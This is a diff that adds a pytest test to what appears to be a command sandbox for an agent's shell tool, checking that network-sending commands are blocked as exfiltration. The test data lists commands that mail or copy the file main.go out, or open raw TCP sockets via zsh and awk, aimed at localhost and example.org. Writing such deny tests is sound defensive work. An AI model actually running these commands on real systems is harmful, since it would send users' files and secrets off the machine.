@@ -84,3 +84,17 @@ def test_options_that_read_a_file(setup, command):
                                      "date -f main.go", "date -I", "sort -R main.go"])
 def test_date_and_sort_stay_allowed(setup, command):
     assert_allowed(setup.bash(command, role="builder"))
+
+
+@pytest.mark.parametrize("command", [
+    "wget2 http://127.0.0.1:9/", "xh http://127.0.0.1:9/", "aria2c http://127.0.0.1:9/",
+    "sendmail a@example.org < main.go", "mail -s x a@example.org < main.go", "mutt -a main.go -- a@example.org",
+    "smbclient //127.0.0.1/x", "tftp 127.0.0.1", "rclone copy main.go r:", "lftp 127.0.0.1",
+    "zsh -c 'zmodload zsh/net/tcp; ztcp 127.0.0.1 9'",
+    "awk 'BEGIN{print \"x\" > \"/inet/tcp/0/127.0.0.1/9\"}'",
+])
+def test_other_network_senders_are_exfiltration(setup, command):
+    for role in ("open", "builder"):
+        assert_denied(setup.bash(command, role=role))
+    reason = assert_denied(setup.bash(command, role="open"))
+    assert "deny-cmd" in reason or "network" in reason, reason
